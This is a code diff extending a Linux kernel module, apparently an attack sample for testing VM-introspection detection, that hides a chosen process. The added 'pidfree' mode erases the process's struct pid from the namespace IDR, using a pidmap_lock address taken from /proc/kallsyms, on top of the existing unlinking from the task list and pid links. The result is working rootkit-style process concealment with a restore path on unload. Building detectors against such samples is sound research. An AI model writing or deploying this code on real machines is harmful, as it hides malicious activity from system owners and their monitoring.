@@ -16,14 +16,24 @@
  * stop finding it) while the task keeps running. The node is then made
  * to point at itself (next NULL, pprev at its own next) so that
  * detach_pid() at exit unhashes it harmlessly; unloading hashes it back.
+ *
+ * mode=pidfree does all that and also erases the struct pid from the pid
+ * namespace's IDR (pidmap_lock's address: pidmap=0x...): the number stays
+ * reserved (a NULL entry, as alloc_pid() leaves it before the task is
+ * attached), so it is not reused and free_pid() at exit releases it as
+ * usual, but nothing that walks or looks up the IDR finds it. Meant for a
+ * sleeping process: no source but its parent's children list is left.
+ * Unloading puts the entry back.
  */
 #define pr_fmt(fmt) KBUILD_MODNAME ": " fmt
 
+#include <linux/idr.h>
 #include <linux/init.h>
 #include <linux/kernel.h>
 #include <linux/module.h>
 #include <linux/moduleparam.h>
 #include <linux/pid.h>
+#include <linux/pid_namespace.h>
 #include <linux/rculist.h>
 #include <linux/sched.h>
 #include <linux/sched/signal.h>
@@ -39,12 +49,35 @@ static unsigned long tasklist;
 module_param(tasklist, ulong, 0444);
 MODULE_PARM_DESC(tasklist, "address of tasklist_lock (from /proc/kallsyms)");
 
+static unsigned long pidmap;
+module_param(pidmap, ulong, 0444);
+MODULE_PARM_DESC(pidmap, "address of pidmap_lock (from /proc/kallsyms), for mode=pidfree");
+
 static char *mode = "list";
 module_param(mode, charp, 0444);
-MODULE_PARM_DESC(mode, "list: off the task list; idr: also off its struct pid");
+MODULE_PARM_DESC(mode, "list: off the task list; idr: also off its struct pid; pidfree: also out of the IDR");
 
 static struct task_struct *victim;
 static struct pid *victim_pid;
+static bool pid_erased;
+
+/* The IDR entry of @p in its own namespace, NULL to erase it. */
+static void *idr_set(struct pid *p, struct pid *entry)
+{
+	struct upid *upid = &p->numbers[p->level];
+	spinlock_t *lock = (spinlock_t *)pidmap;
+	void *old;
+
+	spin_lock_irq(lock);
+	old = idr_replace(&upid->ns->idr, entry, upid->nr);
+	spin_unlock_irq(lock);
+	return old;
+}
+
+static bool mode_is(const char *m)
+{
+	return !strcmp(mode, m);
+}
 
 static int __init vmiaas_attack_hideproc_init(void)
 {
@@ -52,7 +85,8 @@ static int __init vmiaas_attack_hideproc_init(void)
 	struct pid *p;
 
 	if (pid <= 1 || !tasklist ||
-	    (strcmp(mode, "list") && strcmp(mode, "idr")))
+	    !(mode_is("list") || mode_is("idr") || mode_is("pidfree")) ||
+	    (mode_is("pidfree") && !pidmap))
 		return -EINVAL;
 	p = find_get_pid(pid);
 	victim = p ? get_pid_task(p, PIDTYPE_PID) : NULL;
@@ -74,7 +108,7 @@ static int __init vmiaas_attack_hideproc_init(void)
 	INIT_LIST_HEAD(&victim->tasks);
 	write_unlock_irq(lock);
 	pr_info("pid %d (%s) unlinked from the task list\n", pid, victim->comm);
-	if (!strcmp(mode, "idr")) {
+	if (!mode_is("list")) {
 		write_lock_irq(lock);
 		hlist_del_rcu(&victim->pid_links[PIDTYPE_PID]);
 		write_unlock_irq(lock);
@@ -87,6 +121,11 @@ static int __init vmiaas_attack_hideproc_init(void)
 		pr_info("pid %d (%s) unlinked from its struct pid\n", pid,
 			victim->comm);
 	}
+	if (mode_is("pidfree")) {
+		pid_erased = idr_set(victim_pid, NULL) == victim_pid;
+		pr_info("pid %d (%s) %s the IDR\n", pid, victim->comm,
+			pid_erased ? "erased from" : "not found in");
+	}
 	return 0;
 }
 
@@ -96,6 +135,9 @@ static void __exit vmiaas_attack_hideproc_exit(void)
 
 	struct hlist_node *link = &victim->pid_links[PIDTYPE_PID];
 
+	/* Back in the IDR while the number is still reserved for it. */
+	if (pid_erased && pid_alive(victim) && task_pid(victim) == victim_pid)
+		idr_set(victim_pid, victim_pid);
 	write_lock_irq(lock);
 	if (pid_alive(victim) && list_empty(&victim->tasks))
 		list_add_tail_rcu(&victim->tasks, &init_task.tasks);
